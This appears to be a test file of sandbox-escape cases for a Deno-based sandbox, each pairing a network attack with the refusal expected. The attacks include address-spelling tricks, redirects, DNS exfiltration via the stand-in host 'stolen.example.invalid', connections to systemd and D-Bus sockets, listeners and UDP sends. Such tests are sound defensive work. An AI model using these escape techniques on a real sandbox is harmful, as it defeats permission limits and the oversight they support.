import assert from "node:assert/strict";
import type { Bed } from "../bed.ts";
import type { StepCase } from "../case.ts";

const refusedNet = (what: string) => ({
  layer: "deno" as const,
  error: new RegExp(`^RefusedError: the sandbox refused [\\w-]+: net access to "${what}"`),
});
const connect = (hostname: string, port: number) =>
  `(await Deno.connect({ hostname: "${hostname}", port: ${port} })).close();`;
const grants = (at: Bed) => ({ connect: [`127.0.0.1:${at.granted}`] });
const loopback = () => ["--allow-net"];

/** What listens: the bed's listeners count what reaches them. */
export const network: readonly StepCase[] = [
  {
    name: "other-port",
    attack: "connects to another port of the host that it was granted",
    step: (at) => ({ grants: grants(at), run: connect("127.0.0.1", at.port) }),
    refused: refusedNet("127.0.0.1:\\d+"),
    real: loopback,
  },
  {
    name: "redirect",
    attack: "asks the granted server, which redirects it to one that is not",
    step: (at) => ({ grants: grants(at), run: `await fetch("http://127.0.0.1:${at.granted}/");` }),
    refused: refusedNet("127.0.0.1:\\d+"),
  },
  {
    name: "by-name",
    attack: "reaches by name what was granted by address",
    step: (at) => ({ grants: grants(at), run: connect("localhost", at.granted) }),
    refused: refusedNet("localhost:\\d+"),
    real: loopback,
  },
  {
    name: "mapped-address",
    attack: "spells the address as IPv6 holds an IPv4 address",
    step: (at) => ({ grants: grants(at), run: connect("::ffff:127.0.0.1", at.port) }),
    refused: refusedNet("127.0.0.1:\\d+"),
    real: loopback,
  },
  {
    name: "any-address",
    attack: "reaches loopback by 0.0.0.0",
    step: (at) => ({ grants: grants(at), run: connect("0.0.0.0", at.port) }),
    refused: refusedNet("0.0.0.0:\\d+"),
    real: loopback,
  },
  {
    name: "address-as-number",
    attack: "spells the address as one number in a URL",
    step: (at) => ({
      run: `await fetch("http://2130706433:${at.port}/").catch((error) => {
      if (error instanceof TypeError) return; // The listener speaks no HTTP: it was reached.
      throw error;
    });`,
    }),
    refused: refusedNet("127.0.0.1:\\d+"),
    real: loopback,
  },
  {
    name: "dns-query",
    attack: "asks a name server, to tell it something by the name",
    step: () => ({ run: `await Deno.resolveDns("stolen.example.invalid", "A");` }),
    refused: { layer: "box", error: /io error: No such file or directory/ },
    unboxed: refusedNet(".*"),
  },
  {
    name: "dns-lookup",
    attack: "has a name looked up by connecting to it, to tell it something by the name",
    step: () => ({ run: connect("stolen.example.invalid", 443) }),
    refused: refusedNet("stolen.example.invalid:443"),
  },
  {
    name: "node-dns",
    attack: "looks a name up by node:dns",
    step: () => ({
      run: `
        const { lookup } = await import("node:dns/promises");
        await lookup("stolen.example.invalid");`,
    }),
    refused: { layer: "deno", error: /getaddrinfo EPERM stolen.example.invalid/ },
  },
  {
    name: "unix-socket",
    attack: "connects to a Unix socket",
    step: (at) => ({
      run: `(await Deno.connect({ transport: "unix", path: "${at.socket}" })).close();`,
    }),
    refused: { layer: "deno", error: /refused unix-socket: (net|read|write) access to ".*\/s"/ },
    real: (at) => ["--allow-net", `--allow-read=${at.socket}`, `--allow-write=${at.socket}`],
  },
  {
    name: "systemd-private",
    attack: "connects to systemd's private socket",
    step: () => ({
      run: `(await Deno.connect({ transport: "unix", path: "/run/systemd/private" })).close();`,
    }),
    refused: { layer: "deno", error: /refused systemd-private: .* access to ".*systemd\/private"/ },
  },
  {
    name: "d-bus",
    attack: "connects to the system's D-Bus by node:net",
    step: () => ({
      run: `
        const { connect } = await import("node:net");
        await new Promise((resolve, reject) => {
          connect({ path: "/run/dbus/system_bus_socket" }, resolve).on("error", reject);
        });`,
    }),
    refused: { layer: "deno", error: /access to ".*system_bus_socket"/ },
  },
  {
    name: "abstract-socket",
    attack: "connects to a socket that has a name and no path",
    step: () => ({
      run: `await Deno.connect({ transport: "unix", path: "\\0/org/freedesktop/systemd1" });`,
    }),
    refused: { layer: "deno", error: /access to|null byte|nul byte/ },
  },
  {
    name: "listen",
    attack: "listens for somebody outside to call it",
    step: () => ({ run: `Deno.listen({ hostname: "0.0.0.0", port: 0 }).close();` }),
    refused: refusedNet("0.0.0.0:0"),
    real: loopback,
  },
  {
    name: "web-socket",
    attack: "connects by WebSocket",
    step: (at) => ({
      run: `
        const socket = new WebSocket("ws://127.0.0.1:${at.port}/");
        await new Promise((resolve) => socket.onerror = resolve);`,
    }),
    refused: refusedNet("127.0.0.1:\\d+"),
    real: loopback,
  },
  {
    name: "datagram",
    attack: "sends a datagram by node:dgram",
    step: (at) => ({
      run: `
        const { createSocket } = await import("node:dgram");
        const socket = createSocket("udp4");
        await new Promise((resolve, reject) => {
          socket.on("error", reject);
          socket.send("stolen", ${at.port}, "127.0.0.1", (error) => error ? reject(error) : resolve());
        });
        socket.close();`,
    }),
    refused: { layer: "deno", error: /ended with exit code 1/ },
    after: (_at, { output }) => {
      assert.ok(output.some((line) => /NotCapable: Requires net access/.test(line)), `${output}`);
    },
    real: loopback,
  },
];
